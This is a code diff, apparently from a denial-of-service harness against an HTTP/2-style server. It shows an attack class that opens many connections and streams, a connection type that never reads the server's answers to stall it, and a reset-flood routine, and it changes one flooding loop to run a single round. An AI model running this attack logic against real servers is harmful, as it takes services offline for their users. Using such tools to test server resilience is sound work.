@@ -42,7 +42,7 @@ _RESETS_AT_ONCE = 50
 _TURN_S = 0.001
 
 
-class _Unread(Connection):
+class Unread(Connection):
     """Takes what arrives from the socket, but never lets the server send more of an answer."""
 
     def _read_data(self, flags: int, number: int, payload: bytes) -> None:
@@ -161,7 +161,7 @@ class _Attack:
         return [await _connect(make(), self._address) for _ in range(self._connections)]
 
     async def _unread(self, method: str, message: bytes, under_way: Callable[[], None]) -> None:
-        opened = await self._open(lambda: _Unread(*self._arguments(method, 1)))
+        opened = await self._open(lambda: Unread(*self._arguments(method, 1)))
         while True:
             for connection in opened:
                 while len(connection.calls) < self._streams and not connection.lost:
@@ -181,14 +181,12 @@ class _Attack:
             await _connect(_Silent(*self._arguments("Recommend", 65_536)), self._address)
             for _ in range(self._connections)
         ]
-        while True:
-            for connection in opened:
-                while len(connection.calls) < self._streams and not connection.lost:
-                    connection.begin()
-                connection.flush()
-                await asyncio.sleep(0)
-            under_way()
-            await asyncio.sleep(0.1)
+        for connection in opened:
+            for _ in range(self._streams):
+                connection.begin()
+            connection.flush()
+            await asyncio.sleep(0)
+        under_way()
 
     async def _resets(self, under_way: Callable[[], None]) -> None:
         message = _single()
